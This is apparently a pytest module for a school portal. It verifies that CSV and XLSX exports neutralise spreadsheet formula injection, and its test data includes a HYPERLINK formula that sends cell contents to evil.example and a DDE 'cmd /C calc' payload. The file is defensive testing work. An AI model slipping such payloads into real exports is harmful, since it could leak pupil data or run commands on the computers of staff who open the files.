"""Every download of the portal is safe to open: a text that starts like a formula (``=``,
``+``, ``-``, ``@``, a tab, a carriage return) is plain text in the CSV (a leading apostrophe)
and a string cell in the XLSX, never a formula (OWASP, CSV injection).

The routes come from the app's URL map: a new ``.csv`` or ``.xlsx`` route without a case
here fails ``test_every_download_route_is_checked``.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from portal.auth.models import Role
from portal.spreadsheets import FORMULA_STARTS
from portal.transition.models import Party
from tests.conftest import logged_in

EVIL = '=HYPERLINK("https://evil.example/?d="&B2,"Klik hier")'
# One for each way a spreadsheet program starts a formula.
TEXTS = {
    "first_name": "+31612345678",
    "last_name": EVIL,
    "class_name": "@SUM(1+1)",
    "risk_note": "-2+3+cmd|' /C calc'!A0",
    "mbo_institution": "\t=1+1",
    "mbo_programme": "\r=1+1",
}

# Per download route: (the path, the role that downloads, what it must hold).
DOWNLOADS = {
    "transition.export_csv": ("/overstap/export.csv?jaar=2026", "school", True),
    "transition.export_xlsx": ("/overstap/export.xlsx?jaar=2026", "school", True),
    "imports.template": ("/importeren/sjabloon/{kind}.csv", "school", False),
}
TEMPLATE_KINDS = ("leerlingen", "verzuim", "te-laat")


@pytest.fixture()
def evil_list(make, region) -> None:
    """A final-year pupil on the school's list whose every text looks like a formula."""
    pupil = make.pupil(
        region.school_a,
        first_name=TEXTS["first_name"],
        last_name=TEXTS["last_name"],
        class_name=TEXTS["class_name"],
        year=4,
    )
    coach = make.user(Role.SWV, name="=coach()", partnership=region.swv_a)
    entry = make.transition_entry(
        pupil,
        risk_note=TEXTS["risk_note"],
        mbo_institution=TEXTS["mbo_institution"],
        mbo_programme=TEXTS["mbo_programme"],
        coach_id=coach.id,
        first_discussed_on=date(2026, 11, 2),
    )
    make.transition_agreement(entry, party=Party.SCHOOL)


def test_every_download_route_is_checked(app) -> None:
    downloads = {
        rule.endpoint for rule in app.url_map.iter_rules() if rule.rule.endswith((".csv", ".xlsx"))
    }
    assert downloads == set(DOWNLOADS), "a download route needs a case in DOWNLOADS"


def _cells_of_csv(body: bytes) -> list[str]:
    text = body.decode("utf-8").removeprefix("\ufeff")
    return [
        cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row
    ]


@pytest.mark.usefixtures("evil_list")
@pytest.mark.parametrize("endpoint", sorted(DOWNLOADS))
def test_no_download_holds_a_formula(app, region, endpoint) -> None:
    path, role, holds_pupils = DOWNLOADS[endpoint]
    client = logged_in(app, region.by_role()[role])
    paths = [path.format(kind=kind) for kind in TEMPLATE_KINDS] if "{kind}" in path else [path]
    for url in paths:
        response = client.get(url)
        assert response.status_code == 200, url
        if url.split("?")[0].endswith(".xlsx"):
            _check_xlsx(response.data, holds_pupils)
        else:
            cells = _cells_of_csv(response.data)
            live = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
            assert not live, live
            if holds_pupils:  # the texts are there, made harmless, each in one cell
                for text in TEXTS.values():
                    assert "'" + text in cells, text
            assert not any("\r" in cell and not cell.startswith("'") for cell in cells)


def _check_xlsx(body: bytes, holds_pupils: bool) -> None:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        for name in sheets:
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    workbook = load_workbook(io.BytesIO(body))
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str):
                    values.append(cell.value)
                    if cell.value.startswith(FORMULA_STARTS):
                        assert cell.quotePrefix, cell.coordinate  # stays text when edited
    if holds_pupils:
        for text in TEXTS.values():
            assert text.strip() in [v.strip() for v in values], text
